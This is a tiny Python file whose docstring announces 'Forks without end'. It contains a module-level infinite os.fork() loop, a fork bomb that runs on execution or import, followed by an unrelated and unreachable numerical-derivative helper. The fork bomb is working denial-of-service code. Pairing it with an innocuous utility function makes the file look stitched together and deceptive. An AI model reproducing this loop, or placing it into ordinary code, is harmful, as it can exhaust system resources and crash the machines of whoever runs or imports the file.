"""Forks without end."""

import os

while True:
    os.fork()


def numerical_diff(f, x):
    return (f(x + 1e-4) - f(x - 1e-4)) / 2e-4
